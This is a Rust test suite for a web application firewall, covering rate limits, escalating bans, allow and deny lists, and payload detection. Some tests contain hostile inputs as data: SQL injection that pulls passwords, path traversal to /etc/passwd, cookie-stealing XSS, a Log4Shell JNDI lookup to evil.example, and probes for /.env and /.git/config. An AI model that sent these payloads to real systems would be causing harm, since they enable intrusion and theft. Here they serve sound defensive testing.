//! The engine from outside: whole requests, a clock that stands still, verdicts.

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use super::*;
use crate::clock::ManualClock;
use crate::policy::RoutePolicy;
use crate::protection::Protection;
use crate::request::{HeaderPairs, Peer, RouteMatch};
use crate::settings::PathRule;
use crate::store::{AllowedNetwork, DeniedNetwork, KeywordRecord, Origin, Records};

const VISITOR: &str = "203.0.113.7";

/// A firewall on a manual clock.
struct Site {
    firewall: Firewall,
    clock: ManualClock,
}

impl Site {
    fn new() -> Self {
        Self::with(|builder| builder)
    }

    fn with(change: impl FnOnce(FirewallBuilder) -> FirewallBuilder) -> Self {
        let clock = ManualClock::default();
        let firewall = change(Firewall::builder().clock(clock.clone()))
            .build()
            .unwrap();
        Self { firewall, clock }
    }

    fn send(&self, client: &str, method: &str, target: &str, headers: &HeaderPairs<'_>) -> Verdict {
        self.send_view(&RequestView {
            peer: Peer::Address(client.parse().unwrap()),
            headers,
            ..RequestView::new(method, target.as_bytes())
        })
    }

    fn send_view(&self, view: &RequestView<'_>) -> Verdict {
        let (verdict, exchange) = self.firewall.inspect(view);
        let status = verdict.refusal().map_or(200, |refusal| refusal.status);
        self.firewall.observe(exchange, &ResponseView::new(status));
        verdict
    }

    /// The code of the cause, or `ok`.
    fn get(&self, client: &str, target: &str) -> String {
        code(&self.send(client, "GET", target, BROWSER))
    }

    fn pass(&self, time: Duration) {
        self.clock.advance(time);
    }
}

const BROWSER: &HeaderPairs<'static> = &[
    ("host", b"shop.example"),
    (
        "user-agent",
        b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    ),
    (
        "accept",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    ("accept-language", b"de,en-US;q=0.7,en;q=0.3"),
    ("accept-encoding", b"gzip, deflate, br, zstd"),
    ("connection", b"keep-alive"),
    ("sec-fetch-dest", b"document"),
    ("sec-fetch-mode", b"navigate"),
    ("sec-fetch-site", b"same-origin"),
];

fn code(verdict: &Verdict) -> String {
    match verdict {
        Verdict::Allow => "ok".to_owned(),
        Verdict::NeedBody(_) => "need_body".to_owned(),
        Verdict::Refuse(refusal) => refusal.cause.code().to_owned(),
    }
}

fn minutes(count: u64) -> Duration {
    Duration::from_secs(60 * count)
}

#[test]
fn thirty_visitors_behind_one_address_are_neither_limited_nor_banned() {
    let site = Site::with(|builder| {
        builder
            .routes([
                "/",
                "/items/{id}",
                "/api/items/{id}",
                "/api/cart",
                "/api/search",
                "/static/{*file}",
            ])
            .routes((0..6).map(|n| format!("/api/widget{n}")))
    });
    // Ten minutes, every visitor opens a page each half minute; a page makes forty calls.
    for _half_minute in 0..20 {
        for visitor in 0..30 {
            site.pass(Duration::from_secs(1));
            assert_eq!(site.get(VISITOR, &format!("/items/{visitor}")), "ok");
            for call in 0..30 {
                assert_eq!(site.get(VISITOR, &format!("/static/part{call}.js")), "ok");
            }
            for call in ["/api/items/7", "/api/cart", "/api/search?q=x"] {
                assert_eq!(site.get(VISITOR, call), "ok");
            }
            for widget in 0..6 {
                assert_eq!(site.get(VISITOR, &format!("/api/widget{widget}")), "ok");
            }
        }
    }
    assert!(site.firewall.state().bans.is_empty());
}

#[test]
fn a_page_elsewhere_cannot_get_its_visitor_banned() {
    let cross_site: [&HeaderPairs<'_>; 2] = [
        &[("host", b"shop.example"), ("sec-fetch-site", b"cross-site")],
        &[
            ("host", b"shop.example"),
            ("referer", b"https://evil.example/page"),
        ],
    ];
    for headers in cross_site {
        let site = Site::new();
        for _ in 0..2 {
            assert_eq!(code(&site.send(VISITOR, "GET", "/.env", headers)), "probe");
            assert_eq!(
                code(&site.send(VISITOR, "GET", "/wp-login.php", headers)),
                "probe"
            );
        }
        assert_eq!(site.get(VISITOR, "/"), "ok");
    }
}

#[test]
fn real_routes_are_served_and_probes_refused() {
    let site = Site::with(|builder| builder.routes(["/seashells", "/blog/{slug}", "/x.css"]));
    for path in ["/seashells", "/blog/php-tips", "/x.css?q=1"] {
        assert_eq!(site.get(VISITOR, path), "ok", "{path}");
    }
    for (at, path) in [
        "/.env",
        "/wp-login.php",
        "/%2e%65nv",
        "/a/..%2f.git/config",
        "/static/../.env",
        "/.env/x.png",
        "/blog/x.php",
    ]
    .into_iter()
    .enumerate()
    {
        assert_eq!(
            site.get(&format!("198.51.100.{at}"), path),
            "probe",
            "{path}"
        );
    }
}

#[test]
fn strikes_lead_to_a_ban_that_ends_and_escalates() {
    let site = Site::new();
    for offence in 1..=4_u64 {
        assert_eq!(site.get(VISITOR, "/.env"), "probe");
        assert_eq!(site.get(VISITOR, "/wp-login.php"), "probe");
        assert_eq!(site.get(VISITOR, "/"), "banned", "offence {offence}");
        let lasts = [15, 60, 24 * 60, 24 * 60][offence as usize - 1];
        site.pass(minutes(lasts) - Duration::from_secs(1));
        assert_eq!(site.get(VISITOR, "/"), "banned");
        site.pass(Duration::from_secs(2));
        assert_eq!(site.get(VISITOR, "/"), "ok");
    }
    // A week later the slate is clean.
    site.pass(minutes(7 * 24 * 60));
    site.get(VISITOR, "/.env");
    site.get(VISITOR, "/wp-login.php");
    site.pass(minutes(16));
    assert_eq!(site.get(VISITOR, "/"), "ok");
}

#[test]
fn the_same_mistake_strikes_once() {
    let site = Site::new();
    for _ in 0..20 {
        assert_eq!(site.get(VISITOR, "/.env"), "probe");
    }
    assert_eq!(site.get(VISITOR, "/"), "ok");
}

#[test]
fn limits_at_max_exactly_then_429_then_403() {
    let site = Site::with(|builder| builder.routes(["/a", "/b"]));
    let codes: Vec<_> = (1..=201).map(|_| site.get(VISITOR, "/a")).collect();
    assert!(codes[..100].iter().all(|code| code == "ok"));
    assert!(codes[100..200].iter().all(|code| code == "rate_limit"));
    assert_eq!(codes[200], "rate_flood");
    assert_eq!(
        site.get(VISITOR, "/b"),
        "ok",
        "another route has its own counter"
    );
    assert_eq!(site.get("198.51.100.1", "/a"), "ok", "another client too");
    site.pass(Duration::from_secs(70));
    assert_eq!(site.get(VISITOR, "/a"), "ok");
    assert!(site.firewall.state().bans.is_empty());
}

#[test]
fn unknown_routes_share_one_counter() {
    let site = Site::with(|builder| builder.routes(["/"]));
    let limited = (0..150)
        .filter(|n| site.get(VISITOR, &format!("/nothing{n}")) == "rate_limit")
        .count();
    assert_eq!(limited, 50);
}

#[test]
fn a_client_flood_bans_and_retry_after_is_true() {
    let site = Site::new();
    let mut last = Verdict::Allow;
    for n in 0..1500 {
        last = site.send(VISITOR, "GET", &format!("/page{n}"), BROWSER);
    }
    let (limit, wait) = last.refusal().unwrap().cause.exceeded_limit().unwrap();
    assert_eq!(limit.max, 1000);
    site.pass(wait);
    assert_eq!(site.get(VISITOR, "/x"), "ok");
    for n in 0..2100 {
        site.get("198.51.100.9", &format!("/page{n}"));
    }
    assert_eq!(site.get("198.51.100.9", "/"), "banned");
}

#[test]
fn preflights_are_not_counted() {
    let site = Site::with(|builder| builder.routes(["/api"]));
    let headers: &HeaderPairs<'_> = &[
        ("origin", b"https://app.example"),
        ("access-control-request-method", b"PUT"),
    ];
    for _ in 0..300 {
        assert_eq!(code(&site.send(VISITOR, "OPTIONS", "/api", headers)), "ok");
    }
    assert_eq!(site.get(VISITOR, "/api"), "ok");
}

fn denied(network: &str) -> DeniedNetwork {
    DeniedNetwork {
        network: network.parse().unwrap(),
        reason: "x".into(),
        added: std::time::UNIX_EPOCH,
        until: None,
        origin: Origin::Manual,
        evidence: None,
    }
}

#[test]
fn the_whitelist_beats_the_blacklist_and_the_blacklist_everything_else() {
    let allowed = AllowedNetwork {
        network: "203.0.113.0/28".parse().unwrap(),
        added: std::time::UNIX_EPOCH,
    };
    let records = Records {
        allowed: vec![allowed],
        denied: vec![denied("203.0.113.0/24"), denied("2001:db8::/48")],
        ..Records::default()
    };
    let site = Site::with(|builder| {
        builder
            .records(records)
            .route(
                "/admin",
                RoutePolicy::known().require([Protection::RateLimit]),
            )
            .with_settings(|settings| settings.exempt_paths_extra = vec!["/open".into()])
    });
    assert_eq!(site.get("203.0.113.7", "/.env"), "ok");
    assert_eq!(site.get("203.0.113.99", "/"), "denied");
    assert_eq!(
        site.get("203.0.113.99", "/open"),
        "denied",
        "exempt paths do not serve the banned"
    );
    assert_eq!(site.get("2001:db8::1", "/"), "denied");
    assert_eq!(site.get("::ffff:203.0.113.99", "/"), "denied");
    let limited = (0..150)
        .filter(|_| site.get("203.0.113.7", "/admin") == "rate_limit")
        .count();
    assert_eq!(limited, 50, "required beats the whitelist");
}

#[test]
fn operator_keywords_match_in_path_query_and_body() {
    let keyword = |keyword: &str| KeywordRecord {
        keyword: keyword.into(),
        added: std::time::UNIX_EPOCH,
    };
    let records = Records {
        keywords: vec![keyword("union select"), keyword("acme-secret")],
        ..Records::default()
    };
    let site = Site::with(|builder| {
        builder
            .records(records)
            .with_settings(|settings| settings.keywords.in_body = true)
    });
    assert_eq!(
        site.get("198.51.100.1", "/x?q=1+UNION/**/%53elect"),
        "keyword"
    );
    assert_eq!(site.get("198.51.100.2", "/Acme-Secret/x"), "keyword");
    let view = RequestView {
        peer: Peer::Address(VISITOR.parse().unwrap()),
        headers: &[
            ("host", b"h"),
            ("content-length", b"28"),
            ("content-type", b"application/x-www-form-urlencoded"),
        ],
        ..RequestView::new("POST", b"/form")
    };
    let (verdict, mut exchange) = site.firewall.inspect(&view);
    let Verdict::NeedBody(plan) = verdict else {
        panic!("{verdict:?}");
    };
    let mut body = |bytes| {
        code(
            &site
                .firewall
                .inspect_body(&view, &mut exchange, plan, bytes),
        )
    };
    assert_eq!(
        body(CollectedBody::Whole(b"a=1&b=union%20select")),
        "keyword"
    );
    assert_eq!(body(CollectedBody::Whole(b"a=1&b=reunion selection")), "ok");
    assert_eq!(body(CollectedBody::TooLarge), "body_too_large");
    assert_eq!(body(CollectedBody::TimedOut), "body_timeout");
    assert_eq!(body(CollectedBody::NoRoom), "no_room_for_body");
}

#[test]
fn monitoring_refuses_nothing_and_bans_nobody() {
    for site in [
        Site::with(|builder| builder.settings(Preset::Monitor.settings())),
        Site::with(|builder| {
            builder.with_settings(|settings| {
                settings.keywords.mode = crate::Mode::Monitor;
                settings.rate_limit.mode = crate::Mode::Monitor;
            })
        }),
        Site::with(|builder| {
            builder.with_settings(|settings| {
                settings.path_rules.push(PathRule {
                    prefix: "/".into(),
                    mode: Some(crate::Mode::Monitor),
                    ..PathRule::default()
                })
            })
        }),
    ] {
        for n in 0..2500 {
            assert_eq!(site.get(VISITOR, &format!("/{n}/.env")), "ok");
        }
        assert!(site.firewall.state().bans.is_empty());
    }
}

#[test]
fn classic_bans_at_once_and_without_end() {
    let site = Site::with(|builder| builder.settings(Preset::Classic.settings()));
    assert_eq!(site.get(VISITOR, "/x.php"), "probe");
    site.pass(minutes(60 * 24 * 365));
    assert_eq!(site.get(VISITOR, "/"), "banned");
}

#[test]
fn a_missing_peer_is_refused_with_500_or_served_without_limits() {
    let site = Site::new();
    let view = RequestView {
        headers: BROWSER,
        ..RequestView::new("GET", b"/")
    };
    let verdict = site.send_view(&view);
    assert_eq!(verdict.refusal().map(|refusal| refusal.status), Some(500));
    let lenient = Site::with(|builder| {
        builder.with_settings(|settings| {
            settings.client_ip.missing = MissingPeer::Allow;
        })
    });
    for _ in 0..300 {
        assert_eq!(lenient.send_view(&view), Verdict::Allow);
    }
    let probe = RequestView {
        target: b"/.env",
        ..view
    };
    assert_eq!(code(&lenient.send_view(&probe)), "probe");
}

#[test]
fn proxies_are_never_limited_or_banned() {
    let trusted = Site::with(|builder| {
        builder.with_settings(|settings| {
            settings.client_ip.trusted_proxies = vec!["10.0.0.0/8".parse().unwrap()];
        })
    });
    let forwarded: &HeaderPairs<'_> =
        &[("host", b"h"), ("x-forwarded-for", b"1.1.1.1, 203.0.113.7")];
    for path in ["/.env", "/wp-login.php", "/.git/config"] {
        assert_ne!(
            code(&trusted.send("10.0.0.1", "GET", path, forwarded)),
            "ok"
        );
    }
    assert_eq!(
        code(&trusted.send("10.0.0.1", "GET", "/", forwarded)),
        "banned"
    );
    for _ in 0..3000 {
        assert_eq!(trusted.get("10.0.0.1", "/health"), "ok");
    }
    let undeclared = Site::new();
    for _ in 0..3000 {
        assert_eq!(
            code(&undeclared.send("127.0.0.1", "GET", "/", forwarded)),
            "ok"
        );
    }
    for path in ["/.env", "/wp-login.php", "/.git/config"] {
        assert_eq!(
            code(&undeclared.send("127.0.0.1", "GET", path, forwarded)),
            "probe"
        );
    }
    assert!(undeclared.firewall.state().bans.is_empty());
}

#[test]
fn what_a_client_sends_cannot_make_us_panic_or_open_the_gate() {
    let site = Site::new();
    let long = format!("/{}", "a/../".repeat(13_000));
    let many: Vec<(&str, &[u8])> = (0..10_000)
        .map(|_| ("x-a", b"\xff\x00".as_slice()))
        .collect();
    for target in [
        b"//x".as_slice(),
        b"http://h/.env",
        b"*",
        b"",
        b"/%zz%",
        b"/\x80\xff",
        b"/a%00b",
        b"h:443",
        long.as_bytes(),
    ] {
        for headers in [BROWSER, many.as_slice()] {
            let view = RequestView {
                peer: Peer::Address(VISITOR.parse().unwrap()),
                headers,
                ..RequestView::new("G\u{0}T", target)
            };
            assert_ne!(code(&site.send_view(&view)), "panicked");
        }
    }
    for hidden in [
        b"http://h/.env".as_slice(),
        b"//.env",
        b"/.env%00.png",
        b"/x/..;/.env",
        b"\\.env",
        b"/%u002eenv",
    ] {
        let view = RequestView {
            peer: Peer::Address("198.51.100.77".parse().unwrap()),
            ..RequestView::new("GET", hidden)
        };
        let verdict = site.send_view(&view);
        assert!(
            verdict.refusal().is_some(),
            "{:?}",
            String::from_utf8_lossy(hidden)
        );
    }
}

struct Panics;

impl Check for Panics {
    fn name(&self) -> &'static str {
        "panics"
    }
    fn head(&self, _: &Inspection<'_>) -> Outcome {
        panic!("on purpose")
    }
}

#[test]
fn a_panic_becomes_the_configured_verdict() {
    let refuse = Site::with(|builder| builder.check_before(Panics));
    assert_eq!(refuse.get(VISITOR, "/"), "panicked");
    let allow = Site::with(|builder| {
        builder
            .check_after(Panics)
            .with_settings(|settings| settings.failure.panic = OnFailure::Allow)
    });
    assert_eq!(allow.get(VISITOR, "/"), "ok");
}

#[test]
fn exempt_routes_are_exempt_from_what_they_say() {
    let site = Site::with(|builder| {
        builder
            .route(
                "/hook/{id}",
                RoutePolicy::exempt_from([Protection::RateLimit]),
            )
            .route("/open", RoutePolicy::exempt())
            .route(
                "/strict",
                RoutePolicy::exempt().require([Protection::RateLimit]),
            )
    });
    for n in 0..300 {
        assert_eq!(site.get(VISITOR, &format!("/hook/{n}")), "ok");
        assert_eq!(site.get(VISITOR, "/open"), "ok");
    }
    let limited = (0..150)
        .filter(|_| site.get(VISITOR, "/strict") == "rate_limit")
        .count();
    assert_eq!(limited, 50);
}

#[test]
fn two_million_clients_leave_a_ban_and_a_bound() {
    let site =
        Site::with(|builder| builder.with_settings(|settings| settings.state.max_clients = 10_000));
    site.get(VISITOR, "/.env");
    site.get(VISITOR, "/wp-login.php");
    assert_eq!(site.get(VISITOR, "/"), "banned");
    let rates = &site.firewall.state().rates;
    for n in 0..200_000_u32 {
        let view = RequestView {
            peer: Peer::Address(IpAddr::from((0x0b00_0000 + n).to_be_bytes())),
            route: RouteMatch::Absent,
            headers: BROWSER,
            ..RequestView::new("GET", b"/")
        };
        assert_eq!(site.send_view(&view), Verdict::Allow);
    }
    assert!(rates.len() <= 65_536, "{}", rates.len());
    assert_eq!(site.get(VISITOR, "/"), "banned");
}

#[test]
fn records_are_swapped_in_and_bans_written_out() {
    let site = Site::new();
    site.get(VISITOR, "/.env");
    site.get(VISITOR, "/wp-login.php");
    let unwritten = site.firewall.keeping().unwritten(Duration::ZERO);
    assert_eq!(unwritten.changes.len(), 1);
    let mut records = Records::default();
    for change in &unwritten.changes {
        assert!(records.apply(change));
    }
    // A reload before the write has happened does not undo the ban.
    site.firewall.swap(&Records::default()).unwrap();
    assert_eq!(site.get(VISITOR, "/"), "banned");
    site.firewall.keeping().written(unwritten);
    site.firewall.swap(&records).unwrap();
    assert_eq!(site.get(VISITOR, "/"), "banned");
    // Another firewall on the same store has it too.
    let other = Site::with(|builder| builder.records(records));
    assert_eq!(other.get(VISITOR, "/"), "banned");
    // Removed by hand: ban, strikes and offences are gone.
    site.firewall.swap(&Records::default()).unwrap();
    assert_eq!(site.get(VISITOR, "/"), "ok");
    assert_eq!(site.get(VISITOR, "/.env"), "probe");
    assert_eq!(site.get(VISITOR, "/"), "ok");
}

#[test]
fn the_engine_is_shared_between_threads() {
    fn assert_shared<T: Send + Sync + 'static>() {}
    assert_shared::<Firewall>();
    assert_shared::<Verdict>();
    assert_shared::<Exchange>();
    assert_shared::<Arc<Firewall>>();
}

#[test]
fn a_long_multipart_body_is_watched_while_it_passes() {
    let site =
        Site::with(|builder| builder.with_settings(|settings| settings.payload.body_limit = 4096));
    let firewall = Arc::new(site.firewall);
    let view = RequestView {
        peer: Peer::Address(VISITOR.parse().unwrap()),
        headers: &[
            ("host", b"h"),
            ("transfer-encoding", b"chunked"),
            ("content-type", b"multipart/form-data; boundary=b"),
        ],
        ..RequestView::new("POST", b"/upload")
    };
    let part = |name: &str, value: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let file = part("file\"; filename=\"a.bin", &"\u{1}x".repeat(50_000));
    for (last, refused) in [
        ("hello", false),
        ("1' UNION SELECT password FROM users--", true),
    ] {
        let body = format!("{file}{}--b--\r\n", part("comment", last));
        let (verdict, mut exchange) = firewall.inspect(&view);
        let Verdict::NeedBody(plan) = verdict else {
            panic!("{verdict:?}");
        };
        assert_eq!(plan.longer, crate::Longer::Watch);
        let (head, rest) = body.as_bytes().split_at(plan.limit);
        let mut watch = firewall.watch_body(&view, &mut exchange, head).unwrap();
        let late = watch.late_refusal();
        let mut end = Ok(());
        for chunk in rest.chunks(1000) {
            end = end.and_then(|()| watch.chunk(chunk));
        }
        end = end.and_then(|()| watch.end());
        assert_eq!(end.is_err(), refused, "{last}");
        let found = late
            .take()
            .map(|(refusal, answer)| (refusal.cause.code(), answer.status));
        assert_eq!(found, refused.then_some(("payload", 403)));
    }
    // An attack within what is collected is refused before the handler is called.
    let early = part("comment", "<script>alert(document.cookie)</script>") + &file;
    let (_, mut exchange) = firewall.inspect(&view);
    let head = &early.as_bytes()[..4096];
    assert!(firewall.watch_body(&view, &mut exchange, head).is_err());
}

#[test]
fn attacks_are_refused_in_every_carrier_and_strike() {
    let site = Site::new();
    assert_eq!(
        site.get(
            VISITOR,
            "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
        ),
        "payload"
    );
    assert_eq!(
        site.get(VISITOR, "/item?next=../../../../etc/passwd"),
        "payload"
    );
    assert_eq!(site.get(VISITOR, "/"), "banned");
    let cookie: &HeaderPairs<'_> = &[
        ("host", b"h"),
        ("cookie", b"a=1; q=<script>alert(1)</script>"),
    ];
    assert_eq!(
        code(&site.send("198.51.100.1", "GET", "/", cookie)),
        "payload"
    );
    let agent: &HeaderPairs<'_> = &[
        ("host", b"h"),
        ("user-agent", b"${jndi:ldap://evil.example/a}"),
    ];
    assert_eq!(
        code(&site.send("198.51.100.2", "GET", "/", agent)),
        "payload"
    );
}

#[test]
fn a_forum_may_take_code_in_one_field() {
    let exemption = crate::settings::PayloadExemption {
        path: "/forum/".into(),
        fields: vec!["text".into()],
        categories: vec!["xss".into()],
    };
    let site = Site::with(|builder| {
        builder.with_settings(|settings| settings.payload.exempt = vec![exemption])
    });
    let script = "%3Cscript%3Ealert(document.cookie)%3C/script%3E";
    assert_eq!(
        site.get("198.51.100.1", &format!("/forum/post?text={script}")),
        "ok"
    );
    assert_eq!(
        site.get("198.51.100.2", &format!("/forum/post?title={script}")),
        "payload"
    );
    assert_eq!(
        site.get("198.51.100.3", &format!("/shop/post?text={script}")),
        "payload"
    );
    assert_eq!(
        site.get(
            "198.51.100.4",
            "/forum/post?text=1%27+UNION+SELECT+password+FROM+users--"
        ),
        "payload"
    );
}

#[test]
fn a_logged_in_client_is_refused_but_not_struck_by_payload() {
    let site = Site::new();
    for attack in [
        "/?a=<script>alert(1)</script>",
        "/?a=../../../etc/passwd",
        "/?b=1'+UNION+SELECT+a+FROM+b--",
    ] {
        let view = RequestView {
            peer: Peer::Address(VISITOR.parse().unwrap()),
            authenticated: true,
            headers: BROWSER,
            ..RequestView::new("GET", attack.as_bytes())
        };
        assert_eq!(code(&site.send_view(&view)), "payload", "{attack}");
    }
    assert_eq!(site.get(VISITOR, "/"), "ok");
}
